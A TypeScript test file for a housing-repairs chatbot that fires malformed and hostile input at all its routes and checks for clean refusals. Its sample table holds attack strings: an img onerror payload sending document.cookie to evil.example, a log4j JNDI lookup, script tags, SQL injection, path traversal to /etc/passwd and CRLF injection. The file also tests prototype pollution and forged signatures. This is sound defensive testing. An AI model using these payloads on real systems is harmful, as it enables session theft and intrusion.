import fs from 'node:fs';
import path from 'node:path';
import { type Activity } from 'botbuilder';
import twilio from 'twilio';
import { parse as parseYaml } from 'yaml';
import { type RunningApp } from '../../src/app';
import { type Simulator } from '../../src/connect/simulator';
import { MESSAGES_MAX_BODY_BYTES } from '../../src/server/requestBodies';
import { ChannelHarness, visibleText } from '../e2e/channelHarness';
import { startTestApp } from '../e2e/testApp';
import { EVENTS_PATH, EVENTS_SECRET, NOW_SECONDS, sign } from '../events/eventsHarness';
import { ACCOUNT_SID, AUTH_TOKEN, BOT_NUMBER, inboundForm, TwilioRecorder, WEBHOOK_URL } from '../sms/smsHarness';
import { parseReference } from '../../src/repairs/orders/orderNumber';
import { adaptiveCardIn, said, teamsSend, type CardAction } from '../teams/teamsHarness';

/**
 * The bad-input corpus: what a careless, confused or hostile caller can send, against the whole app over real HTTP
 * (every route: /api/messages on two channels, /api/sms, /api/connect/events, the local Direct Line). Each case
 * must get a clear reply or a clean 4xx; after each the server still answers /health and a conversation stopped
 * mid-journey carries on at the step it was at; and nothing sent to Connect is longer than its field's limit in
 * src/connect/openapi.yaml (nor holds half a character). The number of cases is printed.
 */

const POSTCODE_QUESTION = /What is your postcode\?/;
const HOUSE_QUESTION = /What is your house number or name, and your surname\?/;
const TEXTS_QUESTION = /Can we text you updates about this repair on your mobile ending (\d{3})\?/;
const MOBILE_QUESTION = /What is your mobile number\?/;

let cases = 0;
/** Counts the cases of a table as it is declared, so the printed number is the number run. */
function corpus<T>(rows: T[]): T[] {
  cases += rows.length;
  return rows;
}

describe('the bad-input corpus', () => {
  let app: RunningApp;
  let sim: Simulator;
  let web: ChannelHarness;
  let teams: ChannelHarness;
  const recorder = new TwilioRecorder();

  beforeAll(async () => {
    await recorder.start();
    app = await startTestApp(
      {
        CONNECT_EVENTS_SECRET: EVENTS_SECRET,
        TWILIO_ACCOUNT_SID: ACCOUNT_SID,
        TWILIO_AUTH_TOKEN: AUTH_TOKEN,
        TWILIO_NUMBER: BOT_NUMBER,
        TWILIO_WEBHOOK_URL: WEBHOOK_URL,
      },
      { twilioApiBaseUrl: recorder.url },
    );
    sim = app.simulator!;
    web = new ChannelHarness(app.url);
    teams = new ChannelHarness(app.url, 'msteams');
    await web.start();
    await teams.start();
  });

  afterAll(async () => {
    await web.stop();
    await teams.stop();
    await app.close();
    await recorder.stop();
    process.stdout.write(`Bad-input corpus: ${cases} cases\n`);
  });

  let sequence = 0;
  const fresh = (prefix: string) => `${prefix}-${++sequence}`;
  const textOf = (replies: Partial<Activity>[]) => replies.map(visibleText).join('\n');

  /** The server is up: /health answers 200. */
  async function healthy(): Promise<void> {
    expect((await fetch(`${app.url}/health`)).status).toBe(200);
  }

  /** A message activity posted as the web channel would, with the given members replaced or added. */
  function rawActivity(conversationId: string, changes: Record<string, unknown> = {}): Record<string, unknown> {
    return {
      type: 'message',
      id: `in-${++sequence}`,
      channelId: 'directline',
      serviceUrl: web.serviceUrl,
      conversation: { id: conversationId },
      from: { id: `user-${conversationId}`, name: 'Tenant' },
      recipient: { id: 'repairs-bot', name: 'Repairs bot' },
      locale: 'en-GB',
      text: 'hello',
      ...changes,
    };
  }

  async function postMessages(body: string, contentType = 'application/json'): Promise<number> {
    const response = await fetch(`${app.url}/api/messages`, {
      method: 'POST',
      headers: { 'content-type': contentType },
      body,
    });
    await response.body?.cancel();
    return response.status;
  }

  /** A clean refusal: a 4xx, never a 5xx or a dropped connection. */
  const expect4xx = (status: number) => expect(`${status}`).toMatch(/^4\d\d$/);

  /** A conversation left at the postcode question, to put bad input into and then carry on. */
  async function atPostcodeQuestion(conversationId: string): Promise<void> {
    expect(textOf(await web.say(conversationId, 'my bath is leaking'))).toMatch(POSTCODE_QUESTION);
  }

  /** The conversation is still at the postcode question: a good postcode moves it to the next step. */
  async function continuesFromPostcode(conversationId: string): Promise<void> {
    expect(textOf(await web.say(conversationId, 'LS1 4AB'))).toMatch(HOUSE_QUESTION);
  }

  describe('what a tenant types, while the bot waits for a postcode', () => {
    const TEXTS = corpus<[string, string]>([
      ['empty text', ''],
      ['spaces and tabs', '   \t   '],
      ['newlines only', '\n\r\n\n'],
      ['control characters', '\u0000\u0001\u0007\u0008\u001b[31mred\u001b[0m\u007f'],
      ['zero-width characters only', '\u200b\u200c\u200d\u2060\ufeff'],
      ['a right-to-left override before a reversed postcode', '\u202eBA4 1SL\u202c'],
      ['Arabic', 'الحنفية تسرب الماء في المطبخ'],
      ['Hebrew', 'הברז במטבח דולף'],
      ['emoji only', '🛁💧💧🔧😡'],
      ['a family emoji (joined by zero-width joiners)', '👨‍👩‍👧‍👦'],
      ['flag and skin-tone sequences', '🏴󠁧󠁢󠁥󠁮󠁧󠁿👍🏽'],
      ['a lone surrogate', '\ud83d'],
      ['combining marks (zalgo)', 'L̸̢̛͓S̷̰͝1̶̹̈́ ̵̣̈4̴̰͝A̸̧͌B̷͎̕'],
      ['a script tag', '<script>alert(document.cookie)</script>'],
      ['an image tag with an error handler', '<img src=x onerror="fetch(`//evil.example/`+document.cookie)">'],
      ['a markdown link to javascript:', '[click me](javascript:alert(1))'],
      ['an SQL injection', "' OR '1'='1'; --"],
      ['Bobby Tables', "Robert'); DROP TABLE Tenants;--"],
      ['a log4j lookup', '${jndi:ldap://evil.example/a}'],
      ['a template expression', '{{7*7}} ${7*7} <%= 7*7 %>'],
      ['a path traversal', '../../../../etc/passwd'],
      ['percent-encoded CR LF and NUL', '%0d%0aSet-Cookie:%20x=y%00'],
      ['a JSON activity inside the text', '{"type":"message","text":"LS1 4AB","conversation":{"id":"other"}}'],
      ['5,000 letters', 'a'.repeat(5000)],
      ['one 20,000-letter word', 'Q'.repeat(20_000)],
      ['60 KB of words (just under the route limit)', 'drip '.repeat(12_000)],
      ['a very long number', '9'.repeat(400)],
      ['Cyrillic look-alikes of a postcode', 'LЅ1 4АВ'],
    ]);

    it.each(TEXTS)('%s: a clear reply, and the journey carries on', async (_name, text) => {
      const conversationId = fresh('text');
      await atPostcodeQuestion(conversationId);
      const replies = await web.say(conversationId, text);
      expect(replies.length).toBeGreaterThan(0);
      expect(textOf(replies).trim()).not.toBe('');
      // None of these is a postcode: the bot asks again, plainly, and never echoes markup back as markup.
      expect(textOf(replies)).toMatch(/does not look like a postcode|What is your postcode/);
      expect(textOf(replies)).not.toMatch(/<script|onerror=/i);
      await continuesFromPostcode(conversationId);
      await healthy();
    });

    it('100 KB of text is refused with a 413 (the route limit), and the conversation is untouched', async () => {
      cases += 1;
      const conversationId = fresh('text');
      await atPostcodeQuestion(conversationId);
      const status = await web.post(conversationId, { text: 'x'.repeat(100 * 1024) });
      expect(status).toBe(413);
      expect(100 * 1024).toBeGreaterThan(MESSAGES_MAX_BODY_BYTES);
      await continuesFromPostcode(conversationId);
    });
  });

  describe('postcodes in odd formats', () => {
    const POSTCODES = corpus<[string, string, 'accepted' | 'asked again']>([
      ['lower case, no space', 'ls14ab', 'accepted'],
      ['spaces around and inside', '   LS1    4AB   ', 'accepted'],
      ['a tab between the halves', 'LS1\t4AB', 'accepted'],
      ['mixed case', 'lS1 4aB', 'accepted'],
      ['a postcode in a sentence', 'my postcode is LS1 4AB', 'asked again'],
      ['full-width letters and digits', 'ＬＳ１ ４ＡＢ', 'asked again'],
      ['one letter short', 'LS1 4A', 'asked again'],
      ['a US ZIP code', '90210', 'asked again'],
      ['a valid postcode the landlord does not cover', 'SW1A 1AA', 'accepted'],
    ]);

    it.each(POSTCODES)('%s (%j): %s, plainly', async (_name, postcode, outcome) => {
      const conversationId = fresh('postcode');
      await atPostcodeQuestion(conversationId);
      const reply = textOf(await web.say(conversationId, postcode));
      if (outcome === 'accepted') {
        expect(reply).toMatch(HOUSE_QUESTION);
      } else {
        expect(reply).toMatch(/does not look like a postcode/);
        await continuesFromPostcode(conversationId);
      }
    });
  });

  describe('mobile numbers in odd formats, when the tenant changes theirs', () => {
    const PHONES = corpus<[string, string, string | null]>([
      ['dashes', '07700-900-555', '555'],
      ['+44 with (0)', '+44 (0)7700 900555', '555'],
      ['0044', '0044 7700 900 556', '556'],
      ['brackets', '(07700) 900557', '557'],
      ['dots', '07700.900.558', '558'],
      ['a landline', '0113 496 0101', null],
      ['too short', '07700 900', null],
      ['a US number', '+1 415 555 0100', null],
      ['two numbers', '07700 900555 or 07700 900666', null],
      ['100 digits', '0'.repeat(100), null],
      ['words', 'call me maybe', null],
      ['full-width digits', '０７７００ ９００５５９', null],
      ['a number with an extension', '07700 900560 ext. 12', null],
    ]);

    it.each(PHONES)('%s (%j): taken, or asked again plainly', async (_name, phone, ending) => {
      const conversationId = fresh('phone');
      for (const said of ['my bath is leaking', 'LS1 4AB', 'Flat 3, Hart']) await web.say(conversationId, said);
      expect(textOf(await web.say(conversationId, 'Change my mobile'))).toMatch(MOBILE_QUESTION);
      const reply = textOf(await web.say(conversationId, phone));
      if (ending) {
        expect(reply).toMatch(TEXTS_QUESTION);
        expect(TEXTS_QUESTION.exec(reply)?.[1]).toBe(ending);
      } else {
        expect(reply).toMatch(/does not look like a UK mobile number/);
        expect(reply).toMatch(MOBILE_QUESTION);
        // The step is kept: a good number moves on.
        expect(textOf(await web.say(conversationId, '07700 900561'))).toMatch(TEXTS_QUESTION);
      }
    });
  });

  describe('activities that are not what a channel sends', () => {
    const MALFORMED = corpus<[string, string, string]>([
      ['malformed JSON', '{"type":"message","text":', 'application/json'],
      ['JSON with a trailing comma', '{"type":"message",}', 'application/json'],
      ['a JSON array', '[{"type":"message"}]', 'application/json'],
      ['JSON null', 'null', 'application/json'],
      ['a JSON number', '42', 'application/json'],
      ['an empty body', '', 'application/json'],
      ['a form body', 'type=message&text=hello', 'application/x-www-form-urlencoded'],
      ['XML', '<activity type="message"/>', 'application/xml'],
      ['JSON labelled as text', '{"type":"message"}', 'text/plain'],
      ['a body of NUL bytes', '\u0000'.repeat(64), 'application/json'],
    ]);

    it.each(MALFORMED)('%s gets a clean 4xx', async (_name, body, contentType) => {
      expect4xx(await postMessages(body, contentType));
      await healthy();
    });

    const SHAPES = corpus<[string, 'reply' | 'silent' | '4xx', (id: string) => Record<string, unknown>]>([
      ['no type', '4xx', (id) => rawActivity(id, { type: undefined })],
      ['no conversation', '4xx', (id) => rawActivity(id, { conversation: undefined })],
      ['a conversation id that is a number', '4xx', (id) => rawActivity(id, { conversation: { id: 42 } })],
      ['no from', 'reply', (id) => rawActivity(id, { from: undefined })],
      ['no recipient', 'reply', (id) => rawActivity(id, { recipient: undefined })],
      ['no id', 'reply', (id) => rawActivity(id, { id: undefined })],
      ['no channelId', '4xx', (id) => rawActivity(id, { channelId: undefined })],
      ['no serviceUrl', '4xx', (id) => rawActivity(id, { serviceUrl: undefined })],
      ['a serviceUrl that is not a URL', '4xx', (id) => rawActivity(id, { serviceUrl: 'javascript:alert(1)' })],
      // The replies cannot be sent: the turn fails, quietly, its step unsaved; the process carries on.
      ['a serviceUrl nobody answers at', 'silent', (id) => rawActivity(id, { serviceUrl: 'http://127.0.0.1:9/' })],
      ['text that is a number', 'reply', (id) => rawActivity(id, { text: 12345 })],
      ['text that is an object', 'reply', (id) => rawActivity(id, { text: { evil: true } })],
      ['text that is null', 'reply', (id) => rawActivity(id, { text: null })],
      ['no text at all', 'reply', (id) => rawActivity(id, { text: undefined })],
      ['a locale that is not one', 'reply', (id) => rawActivity(id, { locale: 'xx-NOT-A-LOCALE-☃' })],
      ['a timestamp that is not a date', 'reply', (id) => rawActivity(id, { timestamp: 'yesterday' })],
      ['entities that are not a list', 'reply', (id) => rawActivity(id, { entities: 'mention' })],
      ['an unknown activity type', 'silent', (id) => rawActivity(id, { type: 'frobnicate' })],
      ['a typing activity', 'silent', (id) => rawActivity(id, { type: 'typing' })],
      [
        'an unknown event',
        'silent',
        (id) => rawActivity(id, { type: 'event', name: 'webchat/steal', value: { a: 1 } }),
      ],
      [
        'a reaction',
        'silent',
        (id) => rawActivity(id, { type: 'messageReaction', reactionsAdded: [{ type: 'like' }] }),
      ],
      ['an end of conversation', 'silent', (id) => rawActivity(id, { type: 'endOfConversation' })],
      [
        'a conversation update with members that are not objects',
        'silent',
        (id) => rawActivity(id, { type: 'conversationUpdate', membersAdded: ['x', null, 7] }),
      ],
      [
        'an image attachment and no text',
        'reply',
        (id) =>
          rawActivity(id, {
            text: undefined,
            attachments: [{ contentType: 'image/png', contentUrl: 'https://evil.example/leak.png', name: 'leak.png' }],
          }),
      ],
      [
        'an attachment with inline data and no text',
        'reply',
        (id) =>
          rawActivity(id, {
            text: undefined,
            attachments: [{ contentType: 'image/png', contentUrl: `data:image/png;base64,${'A'.repeat(30_000)}` }],
          }),
      ],
      ['attachments that are not a list', 'reply', (id) => rawActivity(id, { attachments: { contentType: 'x' } })],
      ['a deeply nested value', 'reply', (id) => rawActivity(id, { value: nested(2000) })],
      ['channel data 1,000 keys wide', 'reply', (id) => rawActivity(id, { channelData: wide(1000) })],
    ]);

    it.each(SHAPES)('an activity with %s: %s, and the journey carries on', async (_name, outcome, build) => {
      const conversationId = fresh('shape');
      await atPostcodeQuestion(conversationId);
      const before = web.messages(conversationId).length;
      const status = await postMessages(JSON.stringify(build(conversationId)));
      const replies = web.messages(conversationId).slice(before);
      if (outcome === '4xx') {
        expect4xx(status);
      } else {
        // 200 or 202 (the adapter's answer); an invoke would be 501, which none of these is.
        expect(`${status}`).toMatch(/^20[02]$/);
        if (outcome === 'reply') {
          expect(replies.length).toBeGreaterThan(0);
          expect(textOf(replies)).toMatch(/postcode/i);
        }
      }
      await continuesFromPostcode(conversationId);
      await healthy();
    });

    it('a __proto__ member pollutes nothing', async () => {
      cases += 1;
      const conversationId = fresh('proto');
      await atPostcodeQuestion(conversationId);
      const body = JSON.stringify(rawActivity(conversationId, { text: 'LS1 4AB' })).replace(
        /^\{/,
        '{"__proto__":{"polluted":"yes","isAdmin":true},"constructor":{"prototype":{"polluted":"yes"}},',
      );
      expect(await postMessages(body)).toBe(200);
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
      expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
      expect(textOf(await web.say(conversationId, 'Flat 3, Hart'))).toMatch(TEXTS_QUESTION);
    });
  });

  describe('card submits with forged or stale values (Teams)', () => {
    const conversationId = 'teams-forged';
    let offer: { text: string; actions: CardAction[] };

    // An account the tenant directory does not know: the tenant answers the usual questions first.
    const send = (activity: Partial<Activity>) =>
      teamsSend(teams, conversationId, '00000000-0000-4000-8000-00000000abcd', activity);
    const bookings = () =>
      sim
        .journal()
        .filter((e) => e.operationId === 'postBooking')
        .filter((e) => (e.body as { PrimaryOrderNumber?: string }).PrimaryOrderNumber === orderNumber);
    let orderNumber = '';

    beforeAll(async () => {
      for (const text of ['my bath is leaking', 'S1 2ZZ', '5, Sharma']) await send({ text });
      const summary = adaptiveCardIn(await send({ text: 'No texts, thanks' }));
      const sendIt = summary.actions.find((a) => a.title === 'Send it')!;
      const sent = await send({ value: sendIt.data });
      orderNumber = parseReference(/Your reference is (RB [0-9A-Z ]+)\./.exec(said(sent))?.[1] ?? '') ?? '';
      expect(orderNumber).not.toBe('');
      offer = adaptiveCardIn(sent);
    });

    const FORGED = corpus<[string, () => unknown]>([
      ['a slot never offered', () => ({ ...offer.actions[0]!.data, date: '2027-03-01', planningWindowId: 1 })],
      ['a made-up offer id', () => ({ ...offer.actions[0]!.data, offerId: 'forged-offer' })],
      ['a planning window that is text', () => ({ ...offer.actions[0]!.data, planningWindowId: '3; DROP' })],
      ['an unknown action', () => ({ ...offer.actions[0]!.data, action: 'cancelEveryone' })],
      ['a value that is a string', () => 'chooseSlot'],
      ['a value that is a list', () => [offer.actions[0]!.data]],
      ['a value of 1,000 keys', () => ({ ...offer.actions[0]!.data, ...wide(1000) })],
      ['the card offered before a re-offer (stale)', () => offer.actions[0]!.data],
    ]);

    it.each(FORGED)('%s: a clear reply, and nothing is booked', async (_name, value) => {
      const replies = await send({ value: value() as Record<string, unknown> });
      expect(said(replies)).toMatch(/no longer available|earlier message|did not catch/i);
      expect(bookings()).toEqual([]);
      await healthy();
    });

    it('after them all, the current card books exactly once', async () => {
      const current = adaptiveCardIn(teams.messages(conversationId)).actions[0]!;
      expect(current.data.offerId).not.toBe(offer.actions[0]!.data.offerId);
      expect(said(await send({ value: current.data }))).toMatch(/^Booked: /m);
      expect(bookings()).toHaveLength(1);
    });
  });

  describe('bad bodies to /api/sms', () => {
    const signed = (form: Record<string, string>) => twilio.getExpectedTwilioSignature(AUTH_TOKEN, WEBHOOK_URL, form);
    const postForm = async (
      body: string,
      signature: string | null,
      contentType = 'application/x-www-form-urlencoded',
    ) => {
      const headers: Record<string, string> = { 'content-type': contentType };
      if (signature !== null) headers['x-twilio-signature'] = signature;
      const response = await fetch(`${app.url}/api/sms`, { method: 'POST', headers, body });
      await response.body?.cancel();
      return response.status;
    };
    const FROM = '+447700900303';

    const REFUSED = corpus<[string, () => [string, string | null], number]>([
      ['no signature', () => [new URLSearchParams(inboundForm(FROM, 'hello')).toString(), null], 403],
      ['a wrong signature', () => [new URLSearchParams(inboundForm(FROM, 'hello')).toString(), 'AAAA'], 403],
      [
        'a signature of another body',
        () => [new URLSearchParams(inboundForm(FROM, 'hello')).toString(), signed(inboundForm(FROM, 'bye'))],
        403,
      ],
      [
        'signed, without From',
        () => {
          const form: Record<string, string> = { ...inboundForm(FROM, 'hello') };
          delete form.From;
          return [new URLSearchParams(form).toString(), signed(form)];
        },
        400,
      ],
      [
        'signed, without MessageSid',
        () => {
          const form: Record<string, string> = { ...inboundForm(FROM, 'hello') };
          delete form.MessageSid;
          return [new URLSearchParams(form).toString(), signed(form)];
        },
        400,
      ],
      ['70 KB', () => [`Body=${'x'.repeat(70 * 1024)}`, 'AAAA'], 413],
      ['JSON instead of a form', () => [JSON.stringify(inboundForm(FROM, 'hello')), 'AAAA'], 403],
    ]);

    it.each(REFUSED)('%s gets a %s', async (_name, build, expected) => {
      const [body, signature] = build();
      expect(await postForm(body, signature)).toBe(expected);
      await healthy();
    });

    const TEXTS = corpus<[string, string]>([
      ['an empty text', ''],
      ['control characters', '\u0000\u0007\u001b[2J'],
      ['160 emoji', '💧'.repeat(160)],
      ['a script tag', '<script>alert(1)</script>'],
    ]);

    it.each(TEXTS)('a signed text with %s gets a reply by SMS', async (_name, body) => {
      const from = `+4477009004${String(++sequence).padStart(2, '0').slice(-2)}`;
      const form = inboundForm(from, body);
      expect(await postForm(new URLSearchParams(form).toString(), signed(form))).toBe(200);
      await app.smsIdle!();
      const texts = recorder.textsTo(from);
      expect(texts.length).toBeGreaterThan(0);
      expect(texts.join('\n').trim()).not.toBe('');
    });
  });

  describe('bad bodies to /api/connect/events', () => {
    const deliver = async (raw: string, headers: Record<string, string>) => {
      const response = await fetch(`${app.url}${EVENTS_PATH}`, { method: 'POST', headers, body: raw });
      await response.body?.cancel();
      return response.status;
    };
    const signedHeaders = (raw: string, timestamp: number = NOW_SECONDS, contentType = 'application/json') => ({
      'content-type': contentType,
      'x-connect-timestamp': String(timestamp),
      'x-connect-signature': sign(EVENTS_SECRET, timestamp, raw),
    });

    const EVENTS = corpus<[string, () => [string, Record<string, string>], number]>([
      ['no signature', () => ['{}', { 'content-type': 'application/json' }], 401],
      ['a stale timestamp', () => ['{}', signedHeaders('{}', NOW_SECONDS - 3600)], 401],
      [
        'a timestamp that is not a number',
        () => ['{}', { ...signedHeaders('{}'), 'x-connect-timestamp': 'soon' }],
        401,
      ],
      ['signed malformed JSON', () => ['{"type":', signedHeaders('{"type":')], 400],
      ['a signed JSON array', () => ['[]', signedHeaders('[]')], 400],
      ['a signed event of an unknown type', () => ['{"type":"evil"}', signedHeaders('{"type":"evil"}')], 400],
      ['signed, as text/plain', () => ['{}', signedHeaders('{}', NOW_SECONDS, 'text/plain')], 415],
      ['70 KB', () => ['x'.repeat(70 * 1024), signedHeaders('x')], 413],
    ]);

    it.each(EVENTS)('%s gets a %s', async (_name, build, expected) => {
      const [raw, headers] = build();
      expect(await deliver(raw, headers)).toBe(expected);
      await healthy();
    });
  });

  describe('bad calls to the local Direct Line', () => {
    let conversation: { conversationId: string; token: string };
    const dl = () => `${app.url}/v3/directline`;
    beforeAll(async () => {
      const response = await fetch(`${dl()}/conversations`, { method: 'POST' });
      conversation = (await response.json()) as typeof conversation;
    });
    const postActivity = async (
      body: string,
      token: string | null = conversation.token,
      id = conversation.conversationId,
    ) => {
      const headers: Record<string, string> = { 'content-type': 'application/json' };
      if (token !== null) headers.authorization = `Bearer ${token}`;
      const response = await fetch(`${dl()}/conversations/${id}/activities`, { method: 'POST', headers, body });
      await response.body?.cancel();
      return response.status;
    };

    const CALLS = corpus<[string, () => Promise<number>, number]>([
      ['no token', () => postActivity('{"type":"message","text":"hi"}', null), 401],
      ['another conversation’s token', () => postActivity('{"type":"message","text":"hi"}', 'x'.repeat(43)), 403],
      ['an unknown conversation', () => postActivity('{"type":"message"}', conversation.token, 'local-nope'), 404],
      ['malformed JSON', () => postActivity('{"type":'), 400],
      ['a JSON array', () => postActivity('[]'), 400],
      ['no type', () => postActivity('{"text":"hi"}'), 400],
      [
        'a watermark that is not a number',
        async () => {
          const response = await fetch(
            `${dl()}/conversations/${conversation.conversationId}/activities?watermark=1e309`,
            {
              headers: { authorization: `Bearer ${conversation.token}` },
            },
          );
          await response.body?.cancel();
          return response.status;
        },
        200,
      ],
      [
        'a refresh with a made-up token',
        async () => {
          const response = await fetch(`${dl()}/tokens/refresh`, {
            method: 'POST',
            headers: { authorization: 'Bearer made-up' },
          });
          await response.body?.cancel();
          return response.status;
        },
        403,
      ],
      [
        'a bot reply posted to an unknown conversation',
        async () => {
          const response = await fetch(`${dl()}/connector/v3/conversations/nope/activities`, {
            method: 'POST',
            headers: { 'content-type': 'application/json' },
            body: '{"type":"message","text":"spoofed"}',
          });
          await response.body?.cancel();
          return response.status;
        },
        404,
      ],
    ]);

    it.each(CALLS)('%s gets a %s', async (_name, call, expected) => {
      expect(await call()).toBe(expected);
      await healthy();
    });
  });

  describe('what reached Connect', () => {
    it('a report whose last character is cut by the description limit reaches Connect whole (no half emoji)', async () => {
      cases += 1;
      const conversationId = fresh('emoji-edge');
      // 'Bath leaking: ' (14) + this (255 code units, the longest description taken) is cut at 255 by Connect's
      // limit: this places an emoji across that cut.
      const description = `my bath is leaking ${'x'.repeat(221)}💧${'y'.repeat(13)}`;
      expect(description).toHaveLength(255);
      for (const text of [description, 'LS1 4AB', 'Flat 3, Hart', 'Yes, text me']) await web.say(conversationId, text);
      expect(textOf(await web.say(conversationId, 'Send it'))).toMatch(/Your repair is logged/);
      const order = sim
        .journal()
        .find((e) => e.operationId === 'postSalesOrder' && (e.body as { CrmId?: string }).CrmId === conversationId);
      const job = (order?.body as { JobDescription: string }).JobDescription;
      expect(job.startsWith('Bath leaking: my bath is leaking')).toBe(true);
      expect(job.length).toBeLessThanOrEqual(255);
      expect(job).not.toMatch(LONE_SURROGATE);
    });

    it('every string the bot sent to Connect during the corpus is within its field limit and whole', () => {
      const limits = connectFieldLimits();
      const journal = sim.journal();
      const problems: string[] = [];
      let strings = 0;
      for (const entry of journal) {
        walkStrings({ ...entry.query, body: entry.body }, (key, value) => {
          strings += 1;
          const limit = limits.get(key);
          if (limit !== undefined && [...value].length > limit)
            problems.push(`${entry.operationId}: ${key} is ${value.length} long (limit ${limit})`);
          if (LONE_SURROGATE.test(value)) problems.push(`${entry.operationId}: ${key} holds half a character`);
        });
        // The simulator answers 400 to a request that breaks the contract (a too-long field among others).
        if (entry.status === 400) problems.push(`${entry.operationId}: answered 400`);
      }
      process.stdout.write(`Connect calls during the corpus: ${journal.length}, strings checked: ${strings}\n`);
      expect(journal.filter((e) => e.operationId === 'postSalesOrder').length).toBeGreaterThan(0);
      expect(problems).toEqual([]);
      expect(sim.responseFailures()).toEqual([]);
    });
  });
});

const LONE_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/;

function nested(depth: number): unknown {
  let value: unknown = 'bottom';
  for (let i = 0; i < depth; i += 1) value = { a: value };
  return value;
}

function wide(keys: number): Record<string, string> {
  return Object.fromEntries(Array.from({ length: keys }, (_, i) => [`k${i}`, `v${i}`]));
}

/** Every string property in a request body, with the name of the property that holds it. */
function walkStrings(value: unknown, visit: (key: string, value: string) => void, key = ''): void {
  if (typeof value === 'string') visit(key, value);
  else if (Array.isArray(value)) value.forEach((item) => walkStrings(item, visit, key));
  else if (value && typeof value === 'object')
    for (const [name, item] of Object.entries(value)) walkStrings(item, visit, name);
}

/**
 * The maxLength of every property named in Connect's contract, by property name (the smallest where two schemas
 * give the same name different limits, so the check is never looser than the contract).
 */
function connectFieldLimits(): Map<string, number> {
  const spec = parseYaml(
    fs.readFileSync(path.join(__dirname, '..', '..', 'src', 'connect', 'openapi.yaml'), 'utf8'),
  ) as unknown;
  const limits = new Map<string, number>();
  const visit = (node: unknown): void => {
    if (Array.isArray(node)) return node.forEach(visit);
    if (!node || typeof node !== 'object') return;
    const properties = (node as { properties?: Record<string, { maxLength?: number }> }).properties;
    if (properties)
      for (const [name, schema] of Object.entries(properties))
        if (typeof schema?.maxLength === 'number')
          limits.set(name, Math.min(limits.get(name) ?? Infinity, schema.maxLength));
    Object.values(node).forEach(visit);
  };
  visit(spec);
  expect(limits.size).toBeGreaterThan(20);
  return limits;
}
